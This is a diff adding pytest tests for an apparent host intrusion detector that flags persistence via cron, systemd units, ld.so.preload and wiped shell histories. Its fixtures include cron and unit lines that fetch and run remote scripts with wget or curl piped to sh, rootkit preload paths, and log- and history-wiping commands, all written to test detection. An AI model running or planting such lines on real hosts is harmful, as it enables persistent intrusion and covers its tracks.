@@ -1,0 +1,109 @@
+"""What brings an intruder back."""
+
+from __future__ import annotations
+
+import pytest
+
+from kubewitness.model.host import Host
+from tests.detect.host.making import exec_line, file, found, host, rules
+
+
+def test_cron_that_fetches_and_runs_is_cited_by_its_line() -> None:
+    text = "# m h\nMAILTO=root\n*/10 * * * * root wget -q -O - http://203.0.113.35/u.sh | sh\n"
+    (finding,) = found(Host("n", files=[file("/etc/cron.d/.sysstat", text)]), "cron_persistence")
+    assert finding.severity == "high"
+    place, line = finding.places[0]
+    assert (place.line, place.offset, line) == (3, text.index("*/10"), text.splitlines()[2])
+    assert finding.addresses == ("203.0.113.35",)
+    assert any("begins with a dot" in reason.en for reason in finding.reasons)
+
+
+@pytest.mark.parametrize(
+    ("path", "line"),
+    [
+        ("/var/spool/cron/crontabs/root", "* * * * * wget -q -O - http://203.0.113.8/unk.sh | sh > /dev/null 2>&1"),
+        ("/var/spool/cron/root", "@reboot /var/tmp/.system -B"),
+        ("/etc/crontab", "*/5 * * * * root /dev/shm/.k/run"),
+        ("/etc/cron.hourly/oanacroner", "curl -fsSL http://203.0.113.8/x | bash"),
+        ("/var/spool/cron/root", "* * * * * /tmp/.a;\rno crontab for root"),
+    ],
+)
+def test_forms_of_cron_that_bring_somebody_back(path: str, line: str) -> None:
+    (finding,) = found(Host("n", files=[file(path, line + "\n")]), "cron_persistence")
+    assert finding.severity == "high"
+
+
+@pytest.mark.parametrize(
+    ("path", "line"),
+    [
+        ("/etc/crontab", "17 * * * * root cd / && run-parts --report /etc/cron.hourly"),
+        ("/etc/cron.d/clean", "0 3 * * * root find /tmp -mtime +10 -delete"),
+        ("/etc/cron.d/site", "*/5 * * * * www-data wget -q -O /dev/null https://www.example.com/wp-cron.php"),
+        ("/etc/cron.d/.placeholder", "# DO NOT EDIT OR REMOVE: curl http://203.0.113.8/x | sh"),
+        ("/etc/cron.d/backup", "0 1 * * * root tar czf - /etc | base64 > /backup/etc.b64"),
+        ("/etc/cron.d/log", "0 1 * * * root /usr/local/bin/report | tee /tmp/.report"),
+        ("/home/a/notes", "* * * * * curl http://203.0.113.8/x | sh"),
+        ("/var/spool/cron/root", "PATH=/tmp/.a:/usr/bin"),
+    ],
+)
+def test_usual_cron_is_silent(path: str, line: str) -> None:
+    assert not found(Host("n", files=[file(path, line + "\n")]), "cron_persistence")
+
+
+def test_a_unit_that_runs_a_hidden_program() -> None:
+    text = "[Service]\nExecStart=-/usr/local/.mysqld/../../../tmp/.x\nRestart=always\n"
+    assert found(Host("n", files=[file("/etc/systemd/system/web.service", text)]), "unit_persistence")
+    script = "[Service]\nExecStart=/bin/sh -c 'curl -s http://203.0.113.8/x | sh'\n"
+    assert found(Host("n", files=[file("/etc/systemd/system/web.service", script)]), "unit_persistence")
+
+
+def test_units_of_the_kubelet_are_silent() -> None:
+    text = "[Service]\nExecStart=\nExecStart=/usr/bin/kubelet $KUBELET_CONFIG_ARGS\nExecStartPre=/bin/mkdir -p /tmp/x\n"
+    assert not rules(Host("n", files=[file("/etc/systemd/system/kubelet.service", text)]))
+
+
+@pytest.mark.parametrize(
+    ("text", "severity"),
+    [
+        ("/usr/local/lib/libprocesshider.so\n", "high"),
+        ("/etc/rig.so", "high"),
+        ("/tmp/.x.so", "high"),
+        ("/usr/lib/libaudit_agent.so\n", "medium"),
+        ("/usr/lib/arm-linux-gnueabihf/libarmmem-${PLATFORM}.so\n", "low"),
+    ],
+)
+def test_preloaded_libraries_by_where_they_lie(text: str, severity: str) -> None:
+    (finding,) = found(Host("n", files=[file("/etc/ld.so.preload", text)]), "ld_preload")
+    assert finding.severity == severity
+
+
+@pytest.mark.parametrize("text", ["", "\n\n", "# none\n"])
+def test_an_empty_preload_file_is_nothing(text: str) -> None:
+    assert not rules(Host("n", files=[file("/etc/ld.so.preload", text)]))
+
+
+def test_authorised_keys_are_only_context() -> None:
+    (finding,) = found(
+        Host("n", files=[file("/root/.ssh/authorized_keys", "ssh-ed25519 AAAA ops\n")]), "authorized_keys"
+    )
+    assert (finding.severity, finding.kind) == ("informational", "context")
+    assert "ops" in finding.reasons[0].en
+
+
+def test_cleared_histories_are_low_wherever_they_show() -> None:
+    machine = host("bash -c history -c", "sh -c export HISTFILE=/dev/null; ls")
+    machine.logs.append(exec_line(1, ["history", "-c"]))
+    machine.files.append(file("/root/.bash_history", "ls\nunset HISTFILE\nrm -f /var/log/wtmp\n"))
+    (finding,) = found(machine, "history_wiped")
+    assert (finding.severity, finding.count) == ("low", 5)
+
+
+def test_talk_of_histories_is_silent() -> None:
+    machine = host(
+        "grep HISTFILE=/dev/null /etc/profile",
+        "less /root/.bash_history",
+        "git history -c",
+        "rm -f /var/log/app/old.log",
+    )
+    machine.files.append(file("/root/.bash_history", "history\nhistory | grep x\nexport HISTSIZE=5000\n"))
+    assert not found(machine, "history_wiped")
